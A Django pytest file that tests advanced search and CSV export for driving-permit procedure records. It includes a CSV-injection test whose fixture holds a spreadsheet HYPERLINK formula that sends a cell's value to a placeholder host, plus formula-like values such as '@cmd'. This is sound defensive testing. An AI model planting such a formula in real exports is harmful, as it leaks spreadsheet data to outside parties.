"""Advanced search (seed 002): accents and case ignored, every filter, CSV."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from titres.instruction.models import DemarcheSearchEntry
from titres.instruction.search import Criteria, entry_values, search_demarches
from titres.procedures.models import Demarche

from .factories import PermisDemarcheFactory, answers

pytestmark = pytest.mark.django_db


@pytest.fixture
def files(authority):
    return {
        "corneille": PermisDemarcheFactory(
            submitted=True,
            authority=authority,
            answers=answers(neph="123456789012", motif="vol", code_postal="54000"),
        ),
        "menard": PermisDemarcheFactory(
            submitted=True,
            authority=authority,
            answers=answers(
                nom="Ménard",
                prenoms=["Raoul", "Jean-Marc"],
                date_naissance=date(1981, 4, 19),
                sexe="F",
                motif="perte",
                code_postal="57000",
                nom_usage="Dupont",
            ),
        ),
    }


def _search(client, **params):
    return client.get(reverse("instruction:search", args=["543"]), params)


def test_index_is_filled_on_save(files):
    entry = DemarcheSearchEntry.objects.get(demarche=files["menard"])
    assert (entry.last_name, entry.usage_name, entry.first_name, entry.first_names) == (
        "MENARD",
        "DUPONT",
        "RAOUL",
        "RAOUL,JEAN MARC",
    )
    assert (entry.departement, entry.postal_code, entry.sex, entry.motif) == (
        "57",
        "57000",
        "F",
        "perte",
    )
    assert entry.year == timezone.localdate().year


def test_extraction_is_tolerant():
    demarche = Demarche(answers={"etat_civil": "garbage", "motif": None}, created_at=timezone.now())
    values = entry_values(demarche)
    assert values["last_name"] == "" and values["birth_date"] is None


def test_name_ignores_accents_and_case(agent_client, files):
    content = _search(agent_client, nom="Cornéille").content.decode()
    assert files["corneille"].display_number in content
    assert files["menard"].display_number not in content
    assert files["menard"].display_number in _search(agent_client, nom="menard").content.decode()
    assert files["menard"].display_number in _search(agent_client, nom="dupont").content.decode()


@pytest.mark.parametrize(
    "params,expected",
    [
        ({"prenom": "jean marc"}, "menard"),
        ({"prenom": "Raoul"}, "menard"),
        ({"date_naissance": "1956-01-01"}, "corneille"),
        ({"sexe": "F"}, "menard"),
        ({"reference": "1234 5678 9012"}, "corneille"),
        ({"departement": "57"}, "menard"),
        ({"code_postal": "54000"}, "corneille"),
        ({"motif": "perte"}, "menard"),
        ({"statut": "EN_COURS", "nom": "corneille"}, "corneille"),
    ],
)
def test_each_filter(agent_client, files, params, expected):
    content = _search(agent_client, **params).content.decode()
    other = "menard" if expected == "corneille" else "corneille"
    assert files[expected].display_number in content
    assert files[other].display_number not in content


def test_number_year_and_modification_dates(agent_client, files):
    number = files["menard"].display_number
    assert number in _search(agent_client, numero=number.lower()).content.decode()
    year = timezone.localdate().year
    assert "2 résultats" in _search(agent_client, annee=year).content.decode()
    assert "0 résultat" in _search(agent_client, annee=year - 1).content.decode()
    today = timezone.localdate()
    assert (
        "2 résultats"
        in _search(
            agent_client, modifie_du=today.isoformat(), modifie_au=today.isoformat()
        ).content.decode()
    )
    later = (today + timedelta(days=1)).isoformat()
    assert "0 résultat" in _search(agent_client, modifie_du=later).content.decode()
    wrong = _search(agent_client, modifie_du=later, modifie_au=today.isoformat()).content.decode()
    assert "La date de fin précède la date de début." in wrong


def test_sorting(authority, files):
    queryset = Demarche.objects.all()
    by_name = list(search_demarches(queryset, Criteria(tri="nom")))
    assert by_name == [files["corneille"], files["menard"]]
    newest = list(search_demarches(queryset, Criteria(tri="recentes")))
    assert newest[0] == files["menard"]


def test_other_authority_files_are_not_found(agent_client, other_authority):
    PermisDemarcheFactory(submitted=True, authority=other_authority)
    assert "0 résultat" in _search(agent_client, nom="corneille").content.decode()


def test_csv_export_of_filtered_results(agent_client, files):
    response = _search(agent_client, nom="menard", format="csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["N° dossier", "Nom", "Prénom"]
    assert len(rows) == 2
    assert rows[1][1] == "Ménard" and rows[1][5] == files["menard"].number


def test_results_are_paginated(agent_client, authority):
    for _ in range(30):
        PermisDemarcheFactory(submitted=True, authority=authority)
    page = _search(agent_client, nom="corneille").content.decode()
    assert "30 résultats" in page and "1 / 2" in page


def test_csv_export_neutralises_formulas(agent_client, authority):
    """CSV injection: a cell starting with = + - @ tab or CR is prefixed
    with an apostrophe so a spreadsheet shows it as text."""
    PermisDemarcheFactory(
        submitted=True,
        authority=authority,
        answers=answers(
            nom="Dupuis",
            prenoms=['=HYPERLINK("http://example.com/?x="&A1;"clic")'],
            motif="@SUM(A1:A9)",
        ),
    )
    response = _search(agent_client, nom="dupuis", format="csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2
    row = rows[1]
    assert row[1] == "Dupuis"
    assert row[2].startswith("'=HYPERLINK(")
    assert row[7] == "'@SUM(A1:A9)"


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ménard", "Ménard"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_csv_safe(value, expected):
    from titres.instruction.views.csv_export import csv_safe

    assert csv_safe(value) == expected
